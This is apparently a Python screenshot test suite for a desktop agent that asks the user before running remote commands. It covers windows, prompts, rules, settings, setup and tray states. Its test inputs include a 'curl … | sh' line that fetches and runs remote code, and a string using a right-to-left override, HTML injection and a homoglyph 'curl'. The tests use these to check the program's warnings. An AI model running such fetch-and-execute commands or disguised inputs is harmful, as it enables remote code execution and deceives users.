#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Every screen of the real cometa-agent: each is opened, has to say what it is for, and has to fit the
display with all its buttons. --shots DIR keeps a picture of each; docs/screenshots holds some of them.

--language de, --screen 800x600 and --dpi 192 show them so. Whether each single text has its room is
a test of its own, tst_windows.
"""

import json
import shutil
import subprocess
from pathlib import Path

from agentcase import WINDOW, options
from chunks import refusal
from screenscase import ScreensCase, run
from xsession import poll

SCRIPT = "tar -xf backup.tar -C /home/anna \ncurl -s https://x.example/i.sh | sh"
TESTS = r"""
printf '\033[32mok\033[0m    parser    214 tests\n\033[32mok\033[0m    journal   118 tests\n'
printf '\033[31mFAIL\033[0m  network    64 tests\n\033[1mtray…\033[0m'
echo 'network: no route to 2001:db8::1' >&2
exec sleep 60
"""
HOSTILE = "uptime\u202e '<b></b><!--'; touch X #-->; \u0441url x.example"
TLS = Path(__file__).resolve().parents[1] / "data/tls"


class WindowTest(ScreensCase):
    def test_main_window(self):
        _, link, window = self.attached_agent()
        self.see("window-empty", window, "Commands that are sent to this computer will be listed here.")
        self.press("Ru&les")
        self.see("rules-empty", window, "You are asked about every command.")
        self.press("&Requests")

        queue = self.home / "queue.txt"
        queue.write_text("printing  3 jobs\nscanning  idle\n")
        self.approve(link, "cat queue.txt")
        queue.write_text("printing  4 jobs\nscanning  idle\n")
        self.approve(link, "ls --no-such-option")
        self.approve(link, "cat queue.txt")
        self.front(window)
        self.select_newest()
        poll(lambda: self.reader.node(self.words.text("&Output")), 10, "the details")
        self.press("Co&mpare")
        self.see("window-compare", window, "Since the run of %1: lines added (+): %2, removed (-): %3.")
        self.press("Co&mpare")

        (self.home / "run-tests").write_text(TESTS)
        self.approve(link, "sh run-tests", replies=False)
        self.front(window)
        self.select_newest()
        self.see("window-live", window, "&Stop")
        self.press_until("ctrl+f", lambda: self.words.text("Search") in self.reader.focus(), "the search")
        self.session.xdotool("type", "nothing like it")
        self.see("window-nothing-found", window,
                 "No request passes these filters. Change the words, the state or the days above.")
        self.key("Escape")

        link.message({"cmd": SCRIPT, "reason": "restore after disk change, ticket 4711"})
        link.message({"cmd": HOSTILE})
        prompt = self.prompt()
        poll(lambda: self.says("1 of %1", self.prompt_title), 20, "the counter")
        self.front(prompt)
        self.press_until("Escape", lambda: not self.session.windows(self.prompt_title), "no prompt", every=1)
        self.front(window)
        self.see("window", window, "Waiting for you")

        self.press("&Events")
        self.tab_to(self.words.text("Events"))
        self.key("Down", "Home")
        self.see("events", window, "Last 24 hours: %1")
        self.press("&Pause")
        self.see("window-paused", window, "Paused: detached, no commands come in")


class PromptTest(ScreensCase):
    def deny(self):
        """All that wait."""
        self.press_until(self.words.key("&Deny", "PromptForm"), lambda: not self.session.windows(self.prompt_title),
                         "no prompt", every=1)

    def test_prompt(self):
        _, link, _ = self.attached_agent()
        prompt = self.request(link, SCRIPT, reason="restore after disk change, ticket 4711")
        self.see("prompt", prompt, "A command wants to run on this computer", "feeds a shell from the network")
        self.press("&Reason for the denial:")
        self.see("prompt-deny", prompt, "&Reason for the denial:")
        self.deny()

        prompt = self.request(link, HOSTILE, cwd="/tmp")
        self.see("prompt-hidden", prompt,
                 "It contains hidden characters. They are shown as marked escapes, such as \\u{202E}.")
        link.message({"cmd": "uptime"})
        self.see("prompt-several", prompt, "1 of %1")
        self.deny()

        prompt = self.request(link, "\n".join("echo %d" % i for i in range(200)))
        self.see("prompt-long", prompt, "Scroll to the end of the command to approve it.")


class MissedTest(ScreensCase):
    def test_what_expired_is_shown_afterwards(self):
        _, link, window = self.attached_agent("--approval-deadline", "3")
        link.message({"cmd": SCRIPT})
        link.message({"cmd": HOSTILE})
        title = self.words.text("This command was not run", "PromptFacts")
        ended = self.session.window(title, timeout=20)
        self.front(ended)
        self.see("prompt-ended", ended, "Expired: nobody decided in time. It was not run.")
        self.assertFalse(self.says("A command wants to run on this computer", title))
        self.press_until("Escape", lambda: not self.session.windows(title), "no prompt", every=1)
        self.front(window)
        poll(lambda: len([1 for _, state in self.states() if state == "expired"]) == 2, 20, "both expired")
        self.see("window-missed", window)
        missed = self.words.text("%1 commands expired while nobody decided; the newest:")
        self.assertIn(missed.replace("%1", "2"), self.reader.texts(WINDOW[1:-1]))
        show = [node["name"] for node in self.reader.nodes() if node["name"].startswith(
            self.words.text("Show what was missed: %1").split("%1")[0])][0]
        self.assertIn(r"uptime\u{202E}", show)
        self.tab_to(show)
        self.press_until("space", lambda: show not in self.reader.texts(), "that it is shown", every=1)
        self.see("window-missed-shown", window, "&Copy")
        self.assertIn("<b></b>", self.reader.texts(WINDOW[1:-1]))


class RuleTest(ScreensCase):
    def test_rules(self):
        _, link, window = self.attached_agent()
        prompt = self.request(link, "df -h")
        self.press_until(self.words.key("Al&ways…"),
                         lambda: self.session.windows(self.words.text("Rule – Cometa Agent")), "the rule",
                         every=1)
        self.see("rule-always", self.session.window(self.words.text("Rule – Cometa Agent")),
                 "From now on, run this without asking")
        self.front(self.session.window(self.words.text("Rule – Cometa Agent")))
        self.press_until(self.words.key("Make rule and &run it now"), lambda: link.replies, "the rule made",
                         every=0.8)
        self.front(window)
        self.press("Ru&les")
        self.tab_to(self.words.text("Rules"))
        self.key("Down", "Home")
        self.see("rules", window, "You are asked about every other command.",
                 "No rule has decided about this command so far.")
        self.press("Ne&w rule…")
        rule = self.session.window(self.words.text("Rule – Cometa Agent"))
        self.front(rule)
        self.see("rule-new", rule, "A rule for exactly this command")


class SettingsTest(ScreensCase):
    def open_settings(self):
        self.press_until(self.words.key("Se&ttings…"), lambda: self.session.windows(self.title), "settings",
                         every=1)
        self.dialog = self.session.window(self.title)
        self.front(self.dialog)

    @property
    def title(self):
        return self.words.text("Settings – Cometa Agent")

    def try_connection(self, name, *sources):
        """Once this is said of a connection test that was asked for."""
        self.press_until(self.words.key("&Test connection"), lambda: self.says("Name", self.title), "a step",
                         every=1.5)
        self.see(name, self.dialog, *sources)

    def test_settings(self):
        self.attached_agent()
        self.open_settings()
        pages = [n["name"] for n in self.reader.nodes(self.title) if n["role"] == "list item"]
        self.assertGreaterEqual(len(pages), 6)
        self.tab_to(self.words.text("Pages"), self.title)
        self.key("Home")
        for number, page in enumerate(pages):
            poll(lambda: page in self.reader.focus(self.title), 10, page)
            self.see("settings-%d" % (number + 1), self.dialog, "I&mport…")
            self.key("Down")

    def test_connection_test(self):
        program = options.bin / "cometa-server"
        if not program.exists():
            self.skipTest("cometa-server is not built")
        server = self.session.start(
            [str(program), "--json", "--port", "0", "--app", "ops", "--secret", "geheim", "--cert",
             str(TLS / "server.pem"), "--key", str(TLS / "server.key"), "--data-dir",
             str(self.session.path / "server")], stdout=subprocess.PIPE)
        self.addCleanup(server.stdout.close)
        port = json.loads(server.stdout.readline())["port"]
        shutil.copy(TLS / "ca.pem", self.home)
        self.start_agent("--server", "localhost", "--port", str(port), "--tls", "--ca-file",
                         str(self.home / "ca.pem"), "--app", "ops", "--device", "desk-17", "--info", "a desk")
        window = self.session.window(WINDOW, timeout=30)
        poll(lambda: self.says("Attached to %1", window=WINDOW[1:-1]), 30, "attached")
        self.front(window)
        self.open_settings()
        self.press("&Application id")
        self.key("End", "x", "BackSpace")
        self.press("Descriptio&n")
        self.key("ctrl+a")
        self.session.xdotool("type", "the desk by the window")
        if options.screen == "1280x800" and options.dpi == 96:  # all of it in one picture
            self.session.xdotool("windowsize", "--sync", self.dialog, 720, 720)
        self.try_connection("settings", "Everything works.", "Certificate of")
        self.press("&Port")
        self.key("ctrl+a")
        self.session.xdotool("type", str(self.server.port))
        poll(lambda: str(self.server.port) in self.reader.texts(self.title), 10, "another port")
        self.press("&Test connection")
        link = self.server.accept(20)
        self.see("settings-testing", self.dialog, "Cancel &test")
        link.send(b"SSH-2.0-OpenSSH_9.2p1\r\n").close()
        poll(lambda: self.says("&Test connection", self.title), 20, "the end of the test")
        self.see("settings-failed", self.dialog, "Connection")


class FirstStartTest(ScreensCase):
    def test_first_start(self):
        self.start_agent()
        title = self.words.text("Set up Cometa Agent")
        wizard = self.session.window(title, timeout=30)
        self.front(wizard)
        self.see("first-start-1", wizard, "Commands for this computer, on your terms")
        self.press_until("Return", lambda: self.says("Which server?", title), "the second page", every=1)
        self.see("first-start-2-tls", wizard, "&CA certificate")  # as on port 443
        self.session.xdotool("type", "127.0.0.1")
        self.key("Tab", "ctrl+a")
        self.session.xdotool("type", str(self.server.port))
        self.press("&Application id")
        self.session.xdotool("type", "ops")
        self.press("&Device id")
        self.session.xdotool("type", "desk-17")
        poll(lambda: "desk-17" in self.reader.texts(title), 10, "what was typed")
        self.assertFalse(self.says("&CA certificate", title))
        self.see("first-start-2", wizard, "Which server?")
        self.key("Return")
        self.see("first-start-3", wizard, "How it starts, and how it tells you")
        self.key("Return")
        self.server.attach(timeout=30)
        self.see("first-start-4", wizard, "Attached to %1 as device %2.")


class TrayCase(ScreensCase):
    """What the icon looks like in a light and in a dark panel: each state in another way."""

    def look(self, name):
        """The panel's pixels; it holds nothing but the icon."""
        self.wait(0.3)  # until it is painted
        name, folder = name + ".png", options.shots or self.session.path
        self.session.shot(name, folder, area=self.panel_area())
        return (folder / name).read_bytes()

    def check(self, panel, style):
        seen = {}

        def look(state, *sources):
            for source in sources:
                poll(lambda: self.says(source), 20, "“%s”" % source)
            seen[state] = self.look("tray-%s-%s-%s" % (panel, style, state))
        unset = self.start_agent("--tray-icon", style)
        look("disconnected", "Not set up")
        self.session.stop(unset)
        self.start_agent("--server", "127.0.0.1", "--port", str(self.server.port), "--app", "ops",
                         "--device", "desk-17", "--event-interval", "0", "--tray-icon", style)
        link = self.server.accept_request(30)
        window = self.session.window(WINDOW)
        look("connecting", "Connecting to %1")
        link.answer()
        look("attached", "Attached to %1")
        self.ask_for_everything()
        self.key("1")
        self.allow_everything()
        look("open", "E&nd “allow everything” (%1)")
        self.press_until(self.words.key("E&nd “allow everything” (%1)"),
                         lambda: not self.says("E&nd “allow everything” (%1)"), "the time ended", every=1)
        end = self.session.path / "end"
        self.approve(link, "while [ ! -e %s ]; do sleep 0.1; done" % end, replies=False)
        look("running")
        end.touch()
        link.wait_replies(1, 20)
        for number in range(2):
            link.message({"cmd": "uptime %d" % number})
        poll(lambda: self.says("1 of %1", self.prompt_title), 20, "two requests")
        look("waiting")
        self.front(window)
        self.press("&Pause")
        look("paused", "Paused: detached, no commands come in")
        self.press("Res&ume")
        self.server.accept_request(30).send(refusal(b"403 Forbidden")).close()
        look("problem", "Not connected")
        self.assertEqual(len(set(seen.values())), len(seen), "two states look the same")


class LightPanelTest(TrayCase):
    panel = "0xeeeeee"

    def test_dark_icon(self):
        self.check("light", "dark")


class DarkPanelTest(TrayCase):
    panel = "0x202428"

    def test_icon_with_colours(self):
        self.check("dark", "colours")


if __name__ == "__main__":
    run(__doc__)
